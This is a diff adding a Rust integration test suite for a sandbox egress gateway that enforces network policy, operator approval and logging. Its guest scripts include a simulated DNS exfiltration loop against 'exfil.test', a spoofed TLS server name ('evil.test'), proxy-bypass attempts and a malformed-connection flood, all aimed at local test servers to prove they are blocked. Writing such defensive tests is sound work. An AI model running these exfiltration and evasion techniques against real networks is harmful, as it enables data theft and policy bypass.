@@ -1,0 +1,541 @@
+//! Network as a granted capability, end to end: programs in a real gVisor sandbox (no NIC) reach
+//! the network only through the guest agent's proxy endpoints and the host's egress gateway,
+//! which asks the policy — and, for a new destination, the operator — before it resolves a name,
+//! refuses loopback and the supervisor's own port unless a rule says otherwise, checks TLS server
+//! names, and records every attempt. DNS in the guest answers nothing.
+//!
+//! Every upstream is a server this test starts on 127.0.0.1 (HTTP, HTTPS with a throwaway CA, DNS)
+//! and reaches under `.test` names mapped with `airlock serve --egress-map`; nothing here sends a
+//! packet to any other address.
+
+use std::time::Duration;
+
+use airlock_tests::serve::{Events, Serve};
+use airlock_tests::upstream::{client_hello, DnsServer, HttpUpstream, TestCa, TlsUpstream};
+use airlock_tests::{guest_sh_in, poll, Env};
+use anyhow::{ensure, Context, Result};
+use serde_json::{json, Value};
+
+/// The shipped policy, with the test's upstreams allowed, one host denied, and loopback allowed
+/// for `.test` names (where the test's servers live).
+fn test_policy() -> String {
+    let shipped = include_str!("../../policy/default.cedar");
+    let special = "when { context.resolved && context.address_class != \"public\" };";
+    assert!(
+        shipped.contains(special),
+        "the shipped policy's special-address rule changed"
+    );
+    let policy = shipped.replace(
+        special,
+        "when { context.resolved && context.address_class != \"public\" }\nunless { context.host like \"*.test\" };",
+    );
+    format!(
+        "{policy}\n\n@id(\"test-upstreams\")\npermit (principal, action == Action::\"connect\", resource)\n\
+         when {{ [\"web.test\", \"secure.test\", \"api.test\", \"resolved.test\"].contains(context.host) }};\n\n\
+         @id(\"test-denied\")\nforbid (principal, action == Action::\"connect\", resource)\n\
+         when {{ context.host == \"denied.test\" }};\n"
+    )
+}
+
+struct Net {
+    serve: Serve,
+    sb: String,
+    events: Events,
+    web: HttpUpstream,
+    secure: TlsUpstream,
+    ca: TestCa,
+    dns: DnsServer,
+}
+
+async fn started(env: &Env) -> Result<Net> {
+    started_on(env, "gvisor").await
+}
+
+async fn started_on(env: &Env, backend: &'static str) -> Result<Net> {
+    let web = HttpUpstream::start()?;
+    let ca = TestCa::new(&["secure.test"])?;
+    let secure = TlsUpstream::start(&ca)?;
+    // The gateway's resolver for names the map does not list: answers resolved.test only.
+    let dns = DnsServer::start(&[("resolved.test", [127, 0, 0, 1])])?;
+    let policy = env.root.join("policy.cedar");
+    std::fs::write(&policy, test_policy())?;
+    let policy = policy.to_string_lossy().into_owned();
+    let dns_addr = dns.addr.to_string();
+    let mut args = vec![
+        "--backend",
+        backend,
+        "--profile",
+        "minimal",
+        "--approval-timeout",
+        "60",
+        "--policy",
+        &policy,
+        "--egress-dns",
+        &dns_addr,
+    ];
+    for name in ["web.test", "secure.test", "asked.test", "denied.test", "api.test"] {
+        args.push("--egress-map");
+        args.push(Box::leak(format!("{name}=127.0.0.1").into_boxed_str()));
+    }
+    let serve = Serve::start(env, &args)?;
+    let sb = serve.only_sandbox().await?;
+    let events = serve.events().await?;
+    Ok(Net {
+        serve,
+        sb,
+        events,
+        web,
+        secure,
+        ca,
+        dns,
+    })
+}
+
+/// Runs a shell script in the guest (as the operator's CLI does) off the async runtime.
+async fn guest(env: &Env, sb: &str, script: String) -> Result<String> {
+    let (root, sb) = (env.root.clone(), sb.to_string());
+    tokio::task::spawn_blocking(move || guest_sh_in(&root, &sb, &script))
+        .await
+        .context("the guest command's thread")?
+}
+
+/// The sandbox's egress ledger records.
+async fn egress_records(serve: &Serve, sb: &str) -> Result<Vec<Value>> {
+    Ok(serve
+        .ledger(Some(sb))
+        .await?
+        .into_iter()
+        .filter(|e| e["body"]["kind"] == "egress")
+        .map(|e| e["body"]["what"].clone())
+        .collect())
+}
+
+/// Waits until the ledger holds a record matching `pred`.
+async fn ledger_has(serve: &Serve, sb: &str, what: &str, pred: impl Fn(&Value) -> bool) -> Result<Value> {
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
+    loop {
+        let records = egress_records(serve, sb).await?;
+        if let Some(r) = records.iter().find(|r| pred(r)) {
+            return Ok(r.clone());
+        }
+        if tokio::time::Instant::now() > deadline {
+            let log = std::fs::read_to_string(serve.log_path()).unwrap_or_default();
+            let tail: Vec<&str> = log.lines().rev().take(40).collect();
+            anyhow::bail!(
+                "the ledger has no {what}; egress records: {records:#?}\nserve.log ends:\n{}",
+                tail.into_iter().rev().collect::<Vec<_>>().join("\n")
+            );
+        }
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+}
+
+fn is(r: &Value, event: &str, host: &str) -> bool {
+    r["event"] == event && r["destination"]["host"] == host
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_allowed_host_is_reached_over_http_and_both_ledger_entries_are_written() -> Result<()> {
+    let env = Env::new("egress-http");
+    let n = started(&env).await?;
+    let out = guest(
+        &env,
+        &n.sb,
+        format!("curl -sS -m 30 http://web.test:{}/hello", n.web.port),
+    )
+    .await?;
+    ensure!(
+        out == "hello from web.test:{}\n".replace("{}", &n.web.port.to_string()),
+        "curl printed {out:?}"
+    );
+    ensure!(
+        n.web.seen.requests() == vec!["GET /hello HTTP/1.1".to_string()],
+        "the upstream saw {:?} (the gateway must send origin-form requests)",
+        n.web.seen.requests()
+    );
+    let decided = ledger_has(&n.serve, &n.sb, "decision for web.test", |r| {
+        is(r, "decided", "web.test")
+    })
+    .await?;
+    ensure!(
+        decided["outcome"] == "allowed" && decided["rules"] == json!(["test-upstreams"]),
+        "{decided}"
+    );
+    let closed = ledger_has(&n.serve, &n.sb, "close for web.test", |r| {
+        is(r, "closed", "web.test")
+    })
+    .await?;
+    ensure!(closed["bytes_down"].as_u64().unwrap_or(0) > 20, "{closed}");
+    ensure!(closed["bytes_up"].as_u64().unwrap_or(0) > 20, "{closed}");
+    ensure!(
+        closed["address"] == "127.0.0.1" && closed["error"].is_null(),
+        "{closed}"
+    );
+    env.ledger_verifies()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_allowed_host_is_reached_over_https_through_a_connect_tunnel() -> Result<()> {
+    let env = Env::new("egress-https");
+    let n = started(&env).await?;
+    let script = format!(
+        "printf '%s' '{}' > /tmp/ca.pem && curl -sS -m 30 --cacert /tmp/ca.pem https://secure.test:{}/",
+        n.ca.ca_pem, n.secure.port
+    );
+    let out = guest(&env, &n.sb, script).await?;
+    ensure!(out.starts_with("hello from secure.test"), "curl printed {out:?}");
+    let names = n
+        .secure
+        .server_names
+        .lock()
+        .map(|v| v.clone())
+        .unwrap_or_default();
+    ensure!(
+        names == vec![Some("secure.test".to_string())],
+        "the server saw server names {names:?}"
+    );
+    let decided = ledger_has(&n.serve, &n.sb, "decision", |r| is(r, "decided", "secure.test")).await?;
+    ensure!(decided["protocol"] == "connect", "{decided}");
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn socks5_with_remote_names_reaches_an_allowed_host() -> Result<()> {
+    let env = Env::new("egress-socks");
+    let n = started(&env).await?;
+    let out = guest(
+        &env,
+        &n.sb,
+        format!(
+            "curl -sS -m 30 --proxy socks5h://127.0.0.1:1080 http://web.test:{}/",
+            n.web.port
+        ),
+    )
+    .await?;
+    ensure!(out.starts_with("hello from web.test"), "curl printed {out:?}");
+    let decided = ledger_has(&n.serve, &n.sb, "decision", |r| is(r, "decided", "web.test")).await?;
+    ensure!(decided["protocol"] == "socks5", "{decided}");
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_denied_host_gets_a_proxy_refusal_naming_the_rule() -> Result<()> {
+    let env = Env::new("egress-denied");
+    let n = started(&env).await?;
+    let out = guest(
+        &env,
+        &n.sb,
+        format!("curl -sS -m 30 -i http://denied.test:{}/ || true", n.web.port),
+    )
+    .await?;
+    ensure!(out.starts_with("HTTP/1.1 403"), "curl printed {out:?}");
+    ensure!(
+        out.contains("test-denied"),
+        "the refusal does not name the rule: {out}"
+    );
+    ensure!(n.web.seen.requests().is_empty(), "the upstream was reached");
+    let decided = ledger_has(&n.serve, &n.sb, "denial", |r| is(r, "decided", "denied.test")).await?;
+    ensure!(decided["outcome"] == "denied", "{decided}");
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_asked_host_waits_for_the_operator_and_completes_when_allowed() -> Result<()> {
+    let env = Env::new("egress-ask");
+    let mut n = started(&env).await?;
+    let script = format!("curl -sS -m 90 http://asked.test:{}/asked", n.web.port);
+    let call = {
+        let (root, sb) = (env.root.clone(), n.sb.clone());
+        tokio::task::spawn_blocking(move || guest_sh_in(&root, &sb, &script))
+    };
+    let asked = n.events.next_of("egress_asked", Duration::from_secs(60)).await?;
+    let ask = &asked["ask"];
+    ensure!(
+        ask["destinations"] == json!([{"host": "asked.test", "port": n.web.port}]),
+        "{ask}"
+    );
+    ensure!(
+        ask["rules"] == json!(["new-destination"]) && ask["protocol"] == "http",
+        "{ask}"
+    );
+    ensure!(
+        n.web.seen.requests().is_empty(),
+        "the connection went out before the operator decided"
+    );
+    let id = ask["id"].as_u64().context("ask id")?;
+    let (status, body) = n
+        .serve
+        .post(
+            &format!("/sandboxes/{}/egress/{id}", n.sb),
+            json!({"decision": "allow", "scope": {"kind": "once"}}),
+        )
+        .await?;
+    ensure!(
+        status == 200 && body["state"]["state"] == "allowed",
+        "{status} {body}"
+    );
+    let out = call.await??;
+    ensure!(out.starts_with("hello from asked.test"), "curl printed {out:?}");
+    let decided = ledger_has(&n.serve, &n.sb, "approval", |r| is(r, "decided", "asked.test")).await?;
+    ensure!(
+        decided["outcome"] == "approved" && decided["approver"] == n.serve.operator,
+        "{decided}"
+    );
+    let closed = ledger_has(&n.serve, &n.sb, "close", |r| is(r, "closed", "asked.test")).await?;
+    ensure!(closed["bytes_down"].as_u64().unwrap_or(0) > 20, "{closed}");
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn dns_lookups_in_the_guest_reach_no_resolver_and_are_recorded_aggregated() -> Result<()> {
+    let env = Env::new("egress-dns");
+    let n = started(&env).await?;
+    // Positive control: the gateway's resolver is the test's DNS server (a name the map does not
+    // list, allowed by the policy, is resolved there, on the host, after the policy allowed it).
+    let out = guest(
+        &env,
+        &n.sb,
+        format!("curl -sS -m 30 http://resolved.test:{}/", n.web.port),
+    )
+    .await?;
+    ensure!(
+        out.starts_with("hello from resolved.test"),
+        "curl printed {out:?}"
+    );
+    let control = n.dns.queries();
+    ensure!(
+        control >= 1,
+        "the gateway did not resolve through the test's DNS server"
+    );
+    // 1,000 data-bearing lookups through libc, and straight at the resolver in resolv.conf and at
+    // a documentation-range address (no route exists: the sandbox has no interface but loopback).
+    let script = "i=0; while [ $i -lt 1000 ]; do getent hosts $(printf '%04x' $i)c0ffee.exfil.test >/dev/null; i=$((i+1)); done; \
+                  for s in $(awk '/^nameserver/ {print $2}' /etc/resolv.conf) 192.0.2.53; do \
+                  busybox nslookup -timeout=1 aa55.exfil.test $s >/dev/null 2>&1; done; cat /etc/resolv.conf";
+    let resolv = guest(&env, &n.sb, script.to_string()).await?;
+    ensure!(
+        resolv.contains("nameserver 127.0.0.1"),
+        "resolv.conf is {resolv:?}"
+    );
+    let refused = poll("the aggregated DNS refusals", Duration::from_secs(30), || {
+        let records = futures::executor::block_on(egress_records(&n.serve, &n.sb))?;
+        let total: u64 = records
+            .iter()
+            .filter(|r| r["event"] == "dns_refused")
+            .flat_map(|r| r["groups"].as_array().cloned().unwrap_or_default())
+            .filter(|g| g["group"] == "exfil.test")
+            .map(|g| g["count"].as_u64().unwrap_or(0))
+            .sum();
+        Ok((total >= 1000).then_some(records))
+    })?;
+    let rows = refused.iter().filter(|r| r["event"] == "dns_refused").count();
+    ensure!(
+        rows < 100,
+        "{rows} DNS rows for 1,000 lookups: they must be aggregated"
+    );
+    ensure!(
+        n.dns.queries() == control,
+        "the test's DNS server got {} queries from the guest's lookups",
+        n.dns.queries() - control
+    );
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_program_that_ignores_the_proxy_has_nowhere_to_connect() -> Result<()> {
+    let env = Env::new("egress-bypass");
+    let n = started(&env).await?;
+    let out = guest(
+        &env,
+        &n.sb,
+        format!(
+            "curl -sS -m 10 --noproxy '*' http://127.0.0.1:{}/ 2>&1; echo \" exit=$?\"; \
+             curl -sS -m 10 --noproxy '*' http://192.0.2.1/ 2>&1; echo \" exit=$?\"",
+            n.web.port
+        ),
+    )
+    .await?;
+    ensure!(
+        !out.contains("hello from"),
+        "a direct connection reached an upstream: {out}"
+    );
+    ensure!(
+        out.matches("exit=0").count() == 0,
+        "a direct connection succeeded: {out}"
+    );
+    ensure!(n.web.seen.requests().is_empty(), "the upstream was reached");
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_tls_server_name_other_than_the_allowed_host_is_refused() -> Result<()> {
+    let env = Env::new("egress-sni");
+    let n = started(&env).await?;
+    let hello: String = client_hello("evil.test")?
+        .iter()
+        .map(|b| format!("\\{b:03o}"))
+        .collect();
+    let script = format!(
+        "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT secure.test:{} HTTP/1.1\\r\\n\\r\\n' >&3; \
+         head -c 39 <&3; printf '{hello}' >&3; timeout 10 cat <&3 | wc -c",
+        n.secure.port
+    );
+    let out = guest(
+        &env,
+        &n.sb,
+        format!("bash -c \"{}\"", script.replace('"', "\\\"")),
+    )
+    .await?;
+    ensure!(
+        out.starts_with("HTTP/1.1 200"),
+        "the tunnel did not open: {out:?}"
+    );
+    ensure!(
+        out.trim_end().ends_with('0'),
+        "the server answered the ClientHello: {out:?}"
+    );
+    let closed = ledger_has(&n.serve, &n.sb, "close", |r| is(r, "closed", "secure.test")).await?;
+    let error = closed["error"].as_str().unwrap_or_default();
+    ensure!(
+        error.contains("evil.test") && error.contains("secure.test"),
+        "{closed}"
+    );
+    ensure!(
+        n.secure
+            .server_names
+            .lock()
+            .map(|v| v.is_empty())
+            .unwrap_or(false),
+        "the upstream saw a handshake"
+    );
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_supervisor_port_is_never_reachable_from_a_sandbox() -> Result<()> {
+    let env = Env::new("egress-own-port");
+    let n = started(&env).await?;
+    let port = n.serve.base.rsplit(':').next().context("serve port")?;
+    let out = guest(
+        &env,
+        &n.sb,
+        format!("curl -sS -m 30 -i http://api.test:{port}/api/me || true"),
+    )
+    .await?;
+    ensure!(out.starts_with("HTTP/1.1 502"), "curl printed {out:?}");
+    ensure!(out.contains("supervisor"), "the refusal does not say why: {out}");
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn malformed_proxy_requests_get_clear_errors_and_the_sandbox_keeps_working() -> Result<()> {
+    let env = Env::new("egress-hostile");
+    let n = started(&env).await?;
+    let long = "a".repeat(300);
+    let script = format!(
+        "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'NONSENSE\\r\\n\\r\\n' >&3; timeout 10 cat <&3 | wc -c; \
+         exec 4<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT {long}.test:443 HTTP/1.1\\r\\n\\r\\n' >&4; timeout 10 cat <&4 | wc -c; \
+         exec 5<>/dev/tcp/127.0.0.1/1080; printf '\\005\\001\\000\\005\\001\\000\\003\\377' >&5; timeout 10 cat <&5 | wc -c; \
+         i=0; while [ $i -lt 2000 ]; do exec 6<>/dev/tcp/127.0.0.1/3128; exec 6>&-; i=$((i+1)); done; echo opened"
+    );
+    let out = guest(
+        &env,
+        &n.sb,
+        format!("bash -c \"{}\"", script.replace('"', "\\\"")),
+    )
+    .await?;
+    ensure!(out.trim_end().ends_with("opened"), "{out}");
+    // The channel and the gateway still work.
+    let ok = guest(
+        &env,
+        &n.sb,
+        format!("curl -sS -m 30 http://web.test:{}/", n.web.port),
+    )
+    .await?;
+    ensure!(ok.starts_with("hello from web.test"), "curl printed {ok:?}");
+    let (status, _) = n.serve.get(&format!("/sandboxes/{}/screenshot", n.sb)).await?;
+    ensure!(
+        status == 200,
+        "the screenshot failed after the hostile connections: {status}"
+    );
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agent_asking_ahead_puts_one_card_in_front_of_the_operator() -> Result<()> {
+    let env = Env::new("egress-ahead");
+    let mut n = started(&env).await?;
+    let agent = n.serve.agent().await?;
+    let sb = n.sb.clone();
+    let call = tokio::spawn(async move {
+        agent
+            .call(
+                "request_network",
+                json!({"hosts": ["ahead.test:8080", "docs.ahead.test"], "reason": "read the docs", "sandbox": sb}),
+            )
+            .await
+    });
+    let asked = n.events.next_of("egress_asked", Duration::from_secs(60)).await?;
+    let ask = &asked["ask"];
+    ensure!(
+        ask["destinations"]
+            == json!([{"host": "ahead.test", "port": 8080}, {"host": "docs.ahead.test", "port": 443}]),
+        "{ask}"
+    );
+    ensure!(
+        ask["agent_reason"] == "read the docs" && ask["protocol"].is_null(),
+        "{ask}"
+    );
+    let (_, pending) = n.serve.get("/egress").await?;
+    ensure!(
+        pending.as_array().map(Vec::len) == Some(1),
+        "one card, not {pending}"
+    );
+    let id = ask["id"].as_u64().context("ask id")?;
+    let (status, body) = n
+        .serve
+        .post(
+            &format!("/sandboxes/{}/egress/{id}", n.sb),
+            json!({"decision": "allow", "scope": {"kind": "sandbox"}}),
+        )
+        .await?;
+    ensure!(status == 200, "{status} {body}");
+    let outcome = tokio::time::timeout(Duration::from_secs(30), call).await???;
+    ensure!(!outcome.is_error, "{:?}", outcome.texts);
+    let (_, net) = n.serve.get(&format!("/sandboxes/{}/network", n.sb)).await?;
+    ensure!(net["grants"].as_array().map(Vec::len) == Some(2), "{net}");
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_microvm_reaches_allowed_hosts_only_through_the_gateway() -> Result<()> {
+    let env = Env::new("egress-microvm");
+    let n = started_on(&env, "microvm").await?;
+    let script = format!(
+        "printf '%s' '{}' > /tmp/ca.pem; curl -sS -m 60 http://web.test:{}/vm; \
+         curl -sS -m 60 --cacert /tmp/ca.pem https://secure.test:{}/vm; \
+         curl -sS -m 60 -i http://denied.test:{}/ | head -1; \
+         getent hosts c0ffee.exfil.test; echo \"lookup=$?\"; \
+         curl -sS -m 10 --noproxy '*' http://192.0.2.1/ 2>&1 >/dev/null; echo \"direct=$?\"",
+        n.ca.ca_pem, n.web.port, n.secure.port, n.web.port
+    );
+    let out = guest(&env, &n.sb, script).await?;
+    ensure!(out.contains("hello from web.test"), "plain HTTP failed: {out}");
+    ensure!(out.contains("hello from secure.test"), "HTTPS failed: {out}");
+    ensure!(
+        out.contains("HTTP/1.1 403"),
+        "the denied host was not refused: {out}"
+    );
+    ensure!(out.contains("lookup=2"), "a guest lookup resolved: {out}");
+    ensure!(!out.contains("direct=0"), "a direct connection succeeded: {out}");
+    let dns_before = n.dns.queries();
+    ensure!(
+        dns_before == 0,
+        "the test's DNS server was asked {dns_before} times"
+    );
+    ledger_has(&n.serve, &n.sb, "close for web.test", |r| {
+        is(r, "closed", "web.test")
+    })
+    .await?;
+    Ok(())
+}
